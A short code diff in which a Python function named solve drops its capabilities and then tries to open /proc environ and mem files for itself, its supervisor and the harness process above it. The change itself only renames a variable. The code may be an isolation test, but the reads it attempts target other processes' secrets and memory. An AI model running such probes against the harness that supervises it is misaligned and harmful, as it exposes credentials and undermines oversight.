@@ -22,9 +22,9 @@ def parent(pid):
 
 def solve(case):
     ctypes.CDLL(None).capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)())
-    keeper = parent(os.getpid())
+    supervisor = parent(os.getpid())
     opened = []
-    for who, pid in (("itself", os.getpid()), ("keeper", keeper), ("harness", parent(keeper))):
+    for who, pid in (("itself", os.getpid()), ("supervisor", supervisor), ("harness", parent(supervisor))):
         for name in ("environ", "mem"):
             try:
                 with open(f"/proc/{pid}/{name}", "rb") as file:
